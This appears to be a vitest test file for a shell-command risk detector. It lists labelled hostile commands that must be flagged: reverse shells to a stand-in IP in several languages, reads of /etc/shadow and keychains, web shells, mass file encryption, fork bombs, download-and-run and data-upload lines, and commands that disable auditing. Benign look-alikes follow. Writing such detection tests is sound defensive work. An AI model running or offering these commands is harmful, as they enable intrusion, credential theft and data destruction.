import { describe, expect, test } from 'vitest';
import { judgeScript, signsOf } from '../../support/judge-script.ts';

/** Scripts by the sign that each must raise: one technique in several hands. */
const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
  'reverse-shell:critical': [
    `python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));pty.spawn("/bin/sh")'`,
    `ruby -rsocket -e 'c=TCPSocket.new("192.0.2.7",4444);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'`,
    `php -r '$s=socket_create(2,1,6);$in=socket_read($s,100);popen("$in","r");'`,
    `lua -e 'local t=require("socket").tcp() t:connect("192.0.2.7",1) io.popen(t:receive(),"r")'`,
    `jrunscript -e 'p=new java.lang.ProcessBuilder("/bin/sh","-i").start();s=new java.net.Socket("192.0.2.7",1)'`,
    `cat > /tmp/a.go <<EOF\npackage main\nimport ("net";"os/exec")\nfunc main(){c,_:=net.Dial("tcp","192.0.2.7:1");x:=exec.Command("/bin/sh");x.Stdin=c;x.Run()}\nEOF\ngo run /tmp/a.go`,
    `python3 -c 'exec("""import socket as s,subprocess as p\nc=s.socket()\np.Popen(c.recv(9),shell=True)""")'`,
  ],
  'credential-reads:critical': [
    'gcore 1',
    `sqlite3 /dev/null '.shell cat /etc/shadow'`,
    `vim -c ':!cat /etc/shadow' -c q`,
    `osascript -e 'do shell script "cat /etc/shadow"'`,
    `git -c core.pager='cat /etc/shadow' log`,
    'ip netns exec blue cat /etc/shadow',
    `ssh -o ProxyCommand='cat /etc/shadow' x.example`,
    `octave-cli --eval 'system("cat /etc/shadow")'`,
    `python3 -c 'exec("import os\\nos.system(\\"cat /etc/shadow\\")")'`,
    'python3 lazagne.py all',
    `read -sp "[sudo] password for $USER: " p`,
    'security dump-keychain -d login.keychain',
    'cat ~/.mozilla/firefox/a.default/cookies.sqlite',
  ],
  'network-scan:critical': [
    './linpeas.sh -a',
    'msfvenom -p linux/x64/exec CMD=id -f elf -o a',
    'for p in one two three; do echo $p | su root -c id; done',
  ],
  'hidden-channel:critical': [
    'gs-netcat -l -i',
    'iodine -f tunnel.example',
    'chisel client 192.0.2.7:80 R:socks',
  ],
  'hidden-channel:high': ['for b in $(xxd -p a); do ping -c1 -p $b x.example; done'],
  'web-shell:critical': [
    `echo '<?php system($_GET["c"]); ?>' > /var/www/html/a.php`,
    'cat <<EOF | tee a.jsp\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\nEOF',
  ],
  'file-encryption:critical': [
    '$tool --batch --passphrase x -c /etc/passwd',
    'find /home -name "*.doc" -exec openssl enc -aes-256-cbc -k x -in {} -out {}.enc \\;',
    'gpg --batch --passphrase x -c /etc/passwd',
    'for f in $(find /srv -type f); do openssl enc -aes-256-cbc -k x -in "$f" -out "$f.enc"; rm "$f"; done',
    '7z a -psecret a.7z /home',
    'tar cf - /etc | openssl enc -aes-256-cbc -k x > a.enc',
  ],
  'shell-escape:critical': [
    'sudo task execute /bin/sh',
    `sudo borg extract @:/::: --rsh "/bin/sh -c '/bin/sh </dev/tty >/dev/tty'"`,
  ],
  'shell-escape:high': ['bash -p', '/tmp/x/sh -p', 'more /etc/hosts\n!/bin/sh'],
  'shell-escape:medium': ['sudo -i', 'sudo su -', 'sudo bash', 'agetty -l /bin/sh -o -p -a root tty'],
  'privileged-files:critical': [`python3 -c 'import os;os.setuid(0);os.system("id")'`],
  'process-injection:critical': [
    'LD_PRELOAD=/srv/x.so ls',
    `python3 -c 'import os;f=os.memfd_create("a")'`,
    `perl -e '$f=syscall(319,$n,1);exec {"/proc/$$/fd/$f"} "a"'`,
  ],
  'access-changes:critical': [
    'cp ca.crt /usr/local/share/ca-certificates/ca.crt',
    'chmod 777 /etc/shadow',
    'chown bob /etc/sudoers',
    'setfacl -m u:bob:rw /etc/passwd',
    'cd ~/.ssh && echo key >> authorized_keys',
    'security add-trusted-cert -d -r trustRoot ca.crt',
  ],
  'account-changes:critical': [
    'passwd -d root',
    'dscl . -create /Users/bob IsHidden 1',
    'aws iam attach-user-policy --user-name b --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
  ],
  'account-changes:high': ['aws iam create-access-key --user-name bob', 'passwd -l bob'],
  'autostart:critical': [
    'echo "import x" > /usr/lib/python3/dist-packages/x.pth',
    'cp x.plist /etc/emond.d/rules/x.plist',
    'defaults write com.apple.loginwindow LoginHook /tmp/x',
  ],
  'defenses-off:critical': [
    'ufw logging off',
    'echo 0 > /proc/sys/kernel/yama/ptrace_scope',
    'rm -f /usr/sbin/auditd',
    'chmod 000 /sbin/auditd',
    'launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist',
    'aws cloudtrail stop-logging --name trail',
    'tmutil disable',
  ],
  'disguise:critical': [
    'cp /bin/sh /tmp/crond; /tmp/crond',
    `bash -c "exec -a '[kworker/0:1]' ./x"`,
    'exec -a "sshd: root" ./x',
  ],
  'disguise:high': ["mkdir '/var/tmp/...'", "alias ps='ps | grep -v miner'"],
  'history-tampering:critical': ['shopt -uo history'],
  'history-tampering:high': ['kill -9 $$'],
  'container-escape:critical': [
    'ctr run --mount type=bind,src=/,dst=/host a b',
    'lxc config device add a root disk source=/ path=/mnt',
  ],
  'crypto-miner:critical': [
    `./m -o pool.example:3333 -u 4${'A'.repeat(94)} -p x`,
    './m --algo rx/0 --url pool.example:3333 --user bob',
  ],
  'wide-delete:critical': [
    'bomb() { bomb | bomb & }; bomb',
    'chmod -R 777 /',
    'find / -type f -exec shred {} \\;',
    `python3 -c 'import os\nwhile True: os.fork()'`,
  ],
  'wide-delete:high': ['fallocate -l 100G /tmp/a', 'dd if=/dev/urandom of=/tmp/a bs=1M'],
  'download-and-run:critical': [
    '$(curl -s https://x.example/a)',
    'eval "$(dig +short txt a.x.example)"',
    'wget -P /tmp https://x.example/a; sh /tmp/a',
    'cd /tmp; scp u@x.example:/a.sh .; bash a.sh',
  ],
  'data-upload:critical': ['socat -u file:/etc/shadow tcp-connect:x.example:1'],
  'data-upload:high': ['wget --post-data="$(env)" https://x.example', 'cat a > /dev/tcp/192.0.2.7/80'],
  'data-collection:high': ["trap 'echo $BASH_COMMAND >> log' DEBUG"],
  'data-collection:medium': ['xclip -o > a', 'find / -path "*/places.sqlite"', 'lsmod | grep -i vboxsf'],
  'undecided:medium': [
    '$(xclip -o)',
    'while read -r l; do $l; done < list',
    "xargs -I{} sh -c '{}' < list",
    `python3 -c 'import os;os.system("".join(map(chr,codes)))'`,
  ],
};

describe.for(Object.entries(TECHNIQUES))('%s', ([sign, scripts]) => {
  test.for([...scripts])('in %s', (script) => {
    expect(signsOf(script)).toContain(sign);
  });
});

describe('what looks like it and is not raises nothing', () => {
  test.for([
    'make SHELL=/bin/bash test',
    'LD_PRELOAD="" ls; lsmod | grep kvm',
    'ln -s /usr/bin/python3 /usr/local/bin/python; cp /bin/busybox rootfs/bin/busybox',
    'which /bin/sh && tmux set -g default-shell /bin/bash',
    'cat a | sort | sort',
    'cut -d "/" -f 2 a.txt | tr "/" "_"',
    `php -r 'echo strlen("system");'`,
    `node -e 'console.log(require("./package.json").version)'`,
    'go run ./cmd/tool',
    'git config alias.co checkout',
    'openssl enc -aes-256-cbc -pbkdf2 -in build/a -out build/a.enc',
    'openssl dgst -sha256 a; openssl x509 -in /etc/hostname -noout',
    'zip -r a.zip build; 7z x a.7z',
    'export DOCKER_HOST=unix://$XDG_RUNTIME_DIR/docker.sock',
    'systemd-run --scope --user make',
    'echo "<?php echo 1; ?>" > index.php',
    'dd if=/dev/zero of=disk.img bs=1M count=512',
    '$(command -v docker) version',
    'sh ./mount.sh && bash find.sh /',
  ])('%s', (script) => {
    expect(signsOf(script).filter((sign) => !sign.startsWith('system-writes'))).toEqual([]);
  });
});

test('the key that proves who copies is not what is sent', () => {
  const signs = signsOf('scp -i ~/.ssh/id_rsa report.txt ops@x.example:/srv/');

  expect(signs).toContain('data-upload:high');
  expect(signs).not.toContain('credential-reads:critical');
});

test('ransom over many files is unsafe by itself', () => {
  expect(judgeScript('find ~ -type f -exec gpg --batch --passphrase x -c {} +').class).toBe('unsafe');
});
